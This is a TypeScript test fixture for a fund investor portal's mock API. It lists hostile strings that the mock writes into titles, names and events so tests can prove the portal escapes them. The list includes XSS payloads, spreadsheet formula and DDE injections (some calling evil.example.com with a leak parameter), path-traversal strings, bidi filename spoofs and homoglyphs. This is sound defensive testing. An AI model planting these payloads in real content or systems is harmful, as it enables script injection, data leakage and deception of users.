/** The corpus's numbers written as text: each must stay text, never become a number. */
export const hostileNumbersAsText: readonly string[] = [
  '0012',
  '1e309',
  '-0',
  'NaN',
  '1,000.00',
  '\u0661\u0662\u0663',
  '\uFF11\uFF12\uFF13',
  '0x1F',
]

/**
 * Hostile input: strings a careless portal would execute, mis-file or break its layout on. With the corpus on
 * (`POST {api}/__mock/hostile`), the provider writes it into term texts, document titles, fund names, types and facts,
 * fund heads, company names, account group names and events' ids, titles, descriptions, locations, planners and
 * their addresses, so tests can prove nothing
 * runs and nothing breaks. Every PDF it serves is then the hostile PDF (mocks/files/hostilePdf.ts).
 */
export const hostileCorpus: readonly string[] = [
  '<script>window.__pwned = "script"</script>Quarterly Report',
  '<img src=x onerror="window.__pwned = \'img\'">Capital Call Notice',
  '<a href="javascript:window.__pwned=\'link\'">Click for statement</a>',
  '<svg onload="window.__pwned = \'svg\'"><script>window.__pwned = "svg-script"</script></svg>Tax Letter',
  '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1,1) Distribution Notice',
  'Invoice \u202Efdp.exe\u202C Q3',
  `Annual ${'Report '.repeat(1430)}End`,
  'Fund 💼📈 Capital 🚀 Letter',
  '../../etc/passwd Statement \\windows\\system32',
  '"quoted" & <angled> \'single\' Report',
  // More markup and script: every way a string could become an element, an attribute or a URL that runs.
  '"><script>window.__pwned = "attr-break"</script>',
  '</title><script>window.__pwned = "title-break"</script>Statement',
  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe>Fund Letter',
  '<details open ontoggle="window.__pwned = \'details\'">Notice</details>',
  '<input autofocus onfocus="window.__pwned = \'focus\'">K-1',
  '<body onload="window.__pwned = \'body\'">Quarterly Update',
  '<style>*{display:none !important}</style>Hidden Style Report',
  '<math><mi xlink:href="javascript:window.__pwned=\'math\'">click</mi></math>Notice',
  'javascript:window.__pwned = "bare-url"',
  'data:text/html,<script>window.__pwned = "data-url"</script>',
  '{{constructor.constructor(\'window.__pwned = "template"\')()}} Report',
  '${window.__pwned = "interpolation"} Statement',
  // Formula prefixes a spreadsheet would evaluate, plain and disguised.
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!A0",
  '\t=1+1 Tabbed Formula',
  '\r=1+1 Return Formula',
  '=IMPORTXML("http://evil.example.com","//a") Report',
  '\uFF1DSUM(1,1) Fullwidth Equals',
  // Bidirectional controls and marks that reorder what is shown.
  'Statement \u2066exe.\u2069 isolate',
  'Report \u2067fdp.cod\u2069 Q4',
  'Letter \u200Frtl mark\u200E end',
  'Notice \u202Doverride\u202C Q2',
  // Path and device-name tricks for file names.
  '..\\..\\boot.ini Capital Call',
  'CON',
  'NUL.txt',
  'file:///etc/passwd',
  'C:\\Windows\\System32\\cmd.exe',
  'name\u0000with\u0000nulls Report',
  'Trailing dot.',
  '%2e%2e%2fetc%2fpasswd Statement',
  'a/b/c Nested Report',
  // Empty, blank, unbreakable and far-from-Latin names.
  '',
  '   ',
  'Unbreakable' + 'x'.repeat(300),
  'Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358\u0359g\u035A\u035Bo Report',
  'تقرير رأس المال الربع الثالث',
  '資本勘定報告書 第3四半期 年次報告 分配通知 資本要請',
  'Line one\nLine two\nLine three',
  // Zero-width and invisible characters: a name that looks like another, or like nothing at all; U+3164 and the
  // Hangul jamo fillers are letters by category, so only a 'default ignorable' check catches them.
  'Cap\u200Bital\u200B Call Notice',
  'Word\u2060Joiner\u2060 Statement',
  '\uFEFFByte Order Mark Report',
  'Soft\u00ADhyphen\u00AD Distribution',
  '\u200C\u200D\u2061\u2062\u2063\u2064\u180E\u034F',
  '\u3164\u115F\u1160\uFFA0',
  // Bidirectional overrides and embeddings beyond those above, one of them never closed.
  'Letter \u202Bright embedding\u202C Q1',
  'Notice \u202Atxt.exe\u202C end',
  'Report \u2068first strong\u2069 isolate',
  '\u061CArabic letter mark Statement',
  'Statement \u202E\u2066 never closed',
  // Emoji and wide letters cut at the 200-byte file-name limit (src/domain/files.ts, MAX_FILE_NAME_BASE_BYTES):
  // a cut by bytes or by UTF-16 units would land inside a ZWJ family, between a flag's two regional indicators,
  // between a hand and its skin tone, inside a surrogate pair of a kept letter (U+2070E) or of a 3-byte letter.
  'Family ' + '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(8),
  'Flg ' + '\u{1F1FA}\u{1F1F8}\u{1F1EC}\u{1F1E7}\u{1F1EF}\u{1F1F5}'.repeat(9),
  'Hi! ' + '\u{1F44B}\u{1F3FD}'.repeat(30),
  'ab' + '\u{2070E}'.repeat(60),
  'a' + '\u8CC7'.repeat(70),
  // NFD and NFC forms of the same name, and look-alikes: Cyrillic 'а', Greek 'Ρ', Cyrillic 'Ѕ', full-width,
  // Kelvin and Ångström signs, ligatures, Hangul written as jamo.
  'Re\u0301sume\u0301 Statement',
  'R\u00E9sum\u00E9 Statement',
  'C\u0430pital Call Notice',
  '\u03A1aypal \u0405tatement',
  '\uFF26\uFF55\uFF4E\uFF44 \uFF32\uFF45\uFF50\uFF4F\uFF52\uFF54',
  '\u212Bngstr\u00F6m 5\u212A Report',
  '\uFB01nance \uFB02ow Letter',
  '\u1112\u1161\u11AB\u1100\u1173\u11AF Report',
  // Lone surrogates: not valid UTF-16, cannot be written as UTF-8 (file names, calendar files, workbooks).
  'Lone \uD800 high',
  'Lone \uDC00 low',
  '\uDFFF\uD800 reversed pair',
  'Half an emoji \uD83D',
  // Line and paragraph separators, C0 and C1 controls, CR, LF and CRLF: line breaks where a format has none.
  'Line\u2028separator\u2029paragraph',
  'Bell\u0007Backspace\u0008Escape\u001B[31mred\u001B[0m',
  'C1 \u0085next line \u009Bcsi \u0080\u009F',
  'DEL\u007F Report',
  'Carriage\rreturn only',
  'Windows\r\nline\r\nbreaks',
  '\nLeading line feed Report',
  'Vertical\u000Btab\u000Cform feed',
  // Formula and DDE variants that first-character checks miss: leading LF, space or no-break space, full-width
  // ＝＋－＠, pipe (DDE) forms, =DDE(), an encoded line feed.
  '\n=1+1 Line Feed Formula',
  ' =1+1 Leading Space Formula',
  '\u00A0\u3000+SUM(1,1) Spaced Formula',
  '\uFF0BSUM(1,1) Fullwidth Plus',
  '\uFF0D2+3 Fullwidth Minus',
  '\uFF20SUM(1,1) Fullwidth At',
  "cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '%0A=1+1 Encoded Line Feed',
  "%0D-cmd|' /C calc'!A0",
  // SVG and mutation-XSS payloads: markup a sanitiser may parse one way and the browser, once re-serialised,
  // another.
  '<svg><style><img src=x onerror="window.__pwned = \'svg-style\'"></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mglyph'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned='form-math'>",
  '<svg><a xlink:href="javascript:window.__pwned=\'svg-link\'"><text x="20" y="20">Statement</text></a></svg>',
  '<svg><animate onbegin="window.__pwned=\'animate\'" attributeName=x dur=1s></svg>',
  // URL schemes a naive check misses, and links that leave the origin ('/\host' is '//host' to a browser).
  "JaVaScRiPt:window.__pwned='mixed-case'",
  "java\tscript:window.__pwned='tab'",
  "&#106;avascript:window.__pwned='entity'",
  " javascript:window.__pwned='leading-space'",
  "\u0001javascript:window.__pwned='control'",
  'vbscript:msgbox("pwned")',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'data-svg\'"/>',
  '/\\evil.example.com',
  '//evil.example.com',
  // Windows file-name tricks: device names with an extension or a space, trailing dots and spaces, an alternate
  // data stream, a double extension.
  'COM1.pdf',
  'LPT1',
  'AUX .txt',
  'PRN. . .',
  'Trailing spaces   ',
  'report.pdf:stream',
  'report.pdf::$DATA',
  'statement.pdf.exe',
  // Names that are also keys of every JavaScript object: a map or lookup keyed by name must not reach the prototype.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  // Numbers as text: must stay text, never become a number (a spreadsheet's or a parser's).
  ...hostileNumbersAsText,
  // One mebibyte and more (1,048,585 characters): a time or memory limit for whatever copies, measures, folds or
  // lays it out. Unit tests run it through every sink; the answers carry it only as a document title (documents.ts).
  `Megabyte ${'Capital '.repeat(131072)}`,
  // CSV field and row breaks (the quarter package's manifest.csv): a quote that would close its field, a comma and a
  // line break that would start a new column or row with a formula, a semicolon for locales that split on it.
  'Fund A","=HYPERLINK(""http://evil.example.com"")","Injected column',
  'Letter"\r\n"=1+1","Injected row',
  'Notice;=1+1;Semicolon column',
]

/** Strings from this length on are written only where the portal shows them in bounded time (see documents.ts). */
const HUGE = 100_000

/**
 * The corpus without its huge strings (the 1 MiB one): what names and texts cycle through. A huge string in
 * every answer that cycles the corpus would land, by id, in fund names (report headings, file names sent as
 * content-disposition, over Chromium's 256 KB header limit), events (whose calendar file the portal cuts) and
 * the terms (all of them shown at once).
 */
export const everydayHostileTexts: readonly string[] = hostileCorpus.filter((text) => text.length < HUGE)

/** The corpus's huge strings, written only into the document search's results (documents.ts). */
export const hugeHostileTexts: readonly string[] = hostileCorpus.filter((text) => text.length >= HUGE)

/** The corpus string for a row position, cycling through the corpus but its huge strings. */
export const hostileText = (index: number): string =>
  everydayHostileTexts[index % everydayHostileTexts.length] ?? ''
